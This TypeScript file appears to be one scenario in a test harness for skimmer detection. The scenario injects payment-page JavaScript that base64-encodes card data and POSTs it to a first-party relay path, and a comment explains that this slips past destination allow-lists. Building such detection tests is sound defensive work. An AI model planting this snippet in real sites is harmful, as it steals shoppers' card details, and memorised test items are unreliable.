import { holds, js, skimmer } from '../behaviour.ts';
import { at, base64 } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'relay-first-party',
  why: 'Posts to a path of the shop itself, where the server passes it on: every list of allowed destinations lets it through (2 of 88 samples; hardest 2).',
  covers: ['sending: relay', 'hard: first-party relay', 'sending: XHR'],
  base: 'direct',
  install: (site) => {
    site.serve('shop/media/track.php', { status: 204 });
    site.append(
      onPay(js`
    var x = new XMLHttpRequest();
    x.open('POST', '/media/track.php');
    x.setRequestHeader('content-type', 'application/x-www-form-urlencoded');
    x.send('q=' + encodeURIComponent(btoa(card())));`),
    );
  },
  proof: holds((arrived) =>
    at(arrived, 'shop', '/media/track.php').map(({ body }) =>
      base64(new URLSearchParams(body.toString()).get('q') ?? ''),
    ),
  ),
});
